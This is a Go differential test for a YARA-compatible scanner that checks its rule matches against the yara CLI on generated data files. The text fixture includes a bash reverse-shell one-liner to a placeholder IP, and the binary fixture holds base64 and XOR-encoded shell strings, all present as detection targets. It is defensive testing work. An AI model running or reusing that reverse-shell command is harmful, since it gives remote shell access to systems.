package yara

import (
	"bufio"
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/vigilsec/vigil/internal/testutil"
)

// knownDifferences lists rule/file pairs where we knowingly differ from yara 4.2.3,
// keyed "rulefile:rule:datafile" ("*" matches any data file), with the reason.
var knownDifferences = map[string]string{}

func xorBytes(s string, k byte) []byte {
	b := []byte(s)
	for i := range b {
		b[i] ^= k
	}
	return b
}

func wideBytes(s string) []byte { return widen([]byte(s)) }

// writeDiffData creates the data files of the differential test in dir and returns
// their names.
func writeDiffData(t *testing.T, dir string) []string {
	t.Helper()
	files := map[string][]byte{}
	var text bytes.Buffer
	text.WriteString("hello world, Hello World. hello again\n")
	text.WriteString("tab\there quote\"q back\\slash ABC line\nnext line next\n")
	text.WriteString("a word, sword words word. Usage: tool --help --helpme\n")
	text.WriteString("call 555-1234 or John Smith; cats and dogs, a bird. aaaaa bbb xxy\n")
	text.WriteString("see https://example.com/path/to_file and http://10.0.0.1/x at 192.168.1.200\n")
	text.WriteString("mail bob@example.com now. qa qi quiet .*+? version 1.2.3 and 10.20.30\n")
	text.WriteString("helXlo heABo hexxxlo helllo world! /bin/sh -i >& /dev/tcp/10.1.2.3/4444 0>&1\n")
	text.WriteString("aab ab abababb GNU libc.so.6 end")
	files["text.txt"] = text.Bytes()

	var f bytes.Buffer
	f.WriteString("hello ")
	f.Write(wideBytes("widestr"))
	f.WriteString(" widestr ")
	f.Write(wideBytes("WideStr"))
	f.WriteString(" x")
	f.Write(wideBytes(" wfw "))
	f.Write(wideBytes("awfwb"))
	f.Write([]byte{0, 1, 2, 3, 4, 0, 1, 5})
	f.WriteString(" k")
	f.Write(xorBytes("secretpayload", 0x55))
	f.WriteString(" k")
	f.Write(xorBytes("secretpayload", 0x07))
	f.WriteString(" k")
	f.Write(xorBytes("secretpayload", 0xA0))
	f.WriteString(" ")
	f.Write(xorBytes(string(wideBytes("xorwide")), 0x11))
	f.WriteString(" ")
	f.Write(xorBytes(" payload ", 0x22))
	f.WriteString(" ")
	for i := 0; i < 3; i++ {
		f.WriteString(base64.StdEncoding.EncodeToString([]byte(strings.Repeat("x", i) + "This program cannot be run")))
		f.WriteString(" ")
	}
	f.Write(wideBytes(base64.StdEncoding.EncodeToString([]byte("zThis program cannot be run"))))
	custom := base64.NewEncoding("!@#$%^&*(){}[].,|ABCDEFGHIJ\x09LMNOPQRSTUVWXYZabcdefghijklmnopqrstu")
	f.WriteString(" " + custom.EncodeToString([]byte("say hello world now")) + " ")
	f.WriteString(base64.StdEncoding.EncodeToString([]byte("run /bin/sh -c id")) + " ")
	f.WriteString(base64.StdEncoding.EncodeToString([]byte("ab")))
	f.Write(wideBytes(" GNU "))
	f.WriteString(" helo hello heLLo wOrl wORL WoRL world abdf abcf aef \x7fELF\x02\x01\x01")
	files["features.bin"] = f.Bytes()

	rng := rand.New(rand.NewPCG(1, 2))
	random := make([]byte, 32<<10)
	for i := range random {
		random[i] = byte(rng.Uint32())
	}
	files["random.bin"] = random
	zeros := make([]byte, 4096)
	copy(zeros[100:], "hello")
	zeros[4095] = 0x80
	files["zeros.bin"] = zeros
	files["empty.bin"] = nil

	for _, bin := range []string{"/usr/bin/true", "/usr/bin/env", "/usr/bin/id"} {
		b, err := os.ReadFile(bin)
		if err != nil {
			t.Logf("skipping data file %s: %v", bin, err)
			continue
		}
		files["elf_"+filepath.Base(bin)] = b
		if bin == "/usr/bin/true" {
			files["elf_trunc.bin"] = b[:300]
			bad := bytes.Clone(b)
			bad[40], bad[41], bad[42] = 0xff, 0xff, 0x7f // e_shoff far outside the file
			files["elf_badshoff.bin"] = bad
		}
	}
	var names []string
	for name, data := range files {
		if err := os.WriteFile(filepath.Join(dir, name), data, 0o644); err != nil {
			t.Fatal(err)
		}
		names = append(names, name)
	}
	sort.Strings(names)
	return names
}

// yaraResults maps data file → rule → sorted "id@offset:hexdata" lines.
type yaraResults map[string]map[string][]string

func runYara(t *testing.T, bin, rules, dir string, isHex func(rule, id string) bool) (yaraResults, error) {
	out, err := exec.Command(bin, "-s", "-w", rules, dir).CombinedOutput()
	if err != nil {
		return nil, fmt.Errorf("%v: %s", err, out)
	}
	res := yaraResults{}
	var file, rule string
	sc := bufio.NewScanner(bytes.NewReader(out))
	sc.Buffer(nil, 1<<24)
	for sc.Scan() {
		line := sc.Text()
		if strings.HasPrefix(line, "0x") {
			off, rest, _ := strings.Cut(line, ":")
			id, data, _ := strings.Cut(rest, ": ")
			o, _ := strconv.ParseInt(off[2:], 16, 64)
			res[file][rule] = append(res[file][rule], fmt.Sprintf("%s@%d:%s", id, o, hex.EncodeToString(decodeYaraData(data, isHex(rule, id)))))
			continue
		}
		r, path, ok := strings.Cut(line, " ")
		if !ok {
			return nil, fmt.Errorf("unexpected yara output %q", line)
		}
		file, rule = filepath.Base(path), r
		if res[file] == nil {
			res[file] = map[string][]string{}
		}
		res[file][rule] = []string{}
	}
	for _, rs := range res {
		for _, l := range rs {
			sort.Strings(l)
		}
	}
	return res, nil
}

// decodeYaraData turns yara -s data ("68 65 6C" for hex strings, escaped text otherwise,
// " ..." when truncated) into at most MaxMatchData bytes.
func decodeYaraData(s string, isHex bool) []byte {
	s = strings.TrimSuffix(s, " ...")
	if isHex {
		b, _ := hex.DecodeString(strings.ReplaceAll(s, " ", ""))
		return b[:min(len(b), MaxMatchData)]
	}
	s = strings.TrimSuffix(s, "...")
	var out []byte
	for i := 0; i < len(s); i++ {
		if s[i] == '\\' && i+3 < len(s) && s[i+1] == 'x' {
			if v, err := strconv.ParseUint(s[i+2:i+4], 16, 8); err == nil {
				out = append(out, byte(v))
				i += 3
				continue
			}
		}
		out = append(out, s[i])
	}
	return out[:min(len(out), MaxMatchData)]
}

func ourResults(t *testing.T, r *Rules, dir string, names []string) yaraResults {
	res := yaraResults{}
	for _, name := range names {
		data, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		ms, err := r.Scan(data, ScanOptions{})
		if err != nil {
			t.Fatalf("scan %s: %v", name, err)
		}
		for _, m := range ms {
			if res[name] == nil {
				res[name] = map[string][]string{}
			}
			l := []string{}
			for _, s := range m.Strings {
				l = append(l, fmt.Sprintf("%s@%d:%s", s.ID, s.Offset, hex.EncodeToString(s.Data)))
			}
			sort.Strings(l)
			res[name][m.Rule] = l
		}
	}
	return res
}

// TestDifferential compares rule matches and string matches with the yara CLI on every
// rule file × data file pair.
func TestDifferential(t *testing.T) {
	bin := testutil.RequireCommand(t, "yara")
	dir := t.TempDir()
	names := writeDiffData(t, dir)
	ruleFiles, _ := filepath.Glob("testdata/diff/*.yar")
	// The rule files Vigil ships are real-world rules: they must agree too.
	shipped, _ := filepath.Glob("../../rules/yara/*.yar")
	ruleFiles = append(ruleFiles, shipped...)
	if len(ruleFiles) == 0 {
		t.Fatal("no rule files")
	}
	pairs, agree := 0, 0
	for _, rf := range ruleFiles {
		src, err := os.ReadFile(rf)
		if err != nil {
			t.Fatal(err)
		}
		r, _, err := Compile(CompileOptions{}, Source{Name: rf, Data: src})
		if err != nil {
			t.Errorf("compile %s: %v", rf, err)
			continue
		}
		want, err := runYara(t, bin, rf, dir, func(rule, id string) bool {
			for _, rl := range r.rules {
				if rl.name == rule {
					for _, gi := range rl.strs {
						if r.strs[gi].id == id {
							return r.strs[gi].hex
						}
					}
				}
			}
			return false
		})
		if err != nil {
			t.Errorf("yara %s: %v", rf, err)
			continue
		}
		got := ourResults(t, r, dir, names)
		for _, rl := range r.rules {
			for _, name := range names {
				if rl.private {
					continue
				}
				pairs++
				w, wok := want[name][rl.name]
				g, gok := got[name][rl.name]
				key := fmt.Sprintf("%s:%s:%s", filepath.Base(rf), rl.name, name)
				if reason, ok := knownDifferences[key]; ok {
					t.Logf("known difference %s: %s", key, reason)
					continue
				}
				if reason, ok := knownDifferences[fmt.Sprintf("%s:%s:*", filepath.Base(rf), rl.name)]; ok {
					t.Logf("known difference %s: %s", key, reason)
					continue
				}
				if wok != gok {
					t.Errorf("%s: yara matched=%v, we matched=%v", key, wok, gok)
					continue
				}
				if diff := cmp.Diff(w, g); diff != "" {
					t.Errorf("%s: string matches differ (-yara +ours):\n%s", key, diff)
					continue
				}
				agree++
			}
		}
	}
	t.Logf("differential: %d of %d rule/file pairs agree with yara (%d rule files × %d data files)", agree, pairs, len(ruleFiles), len(names))
}
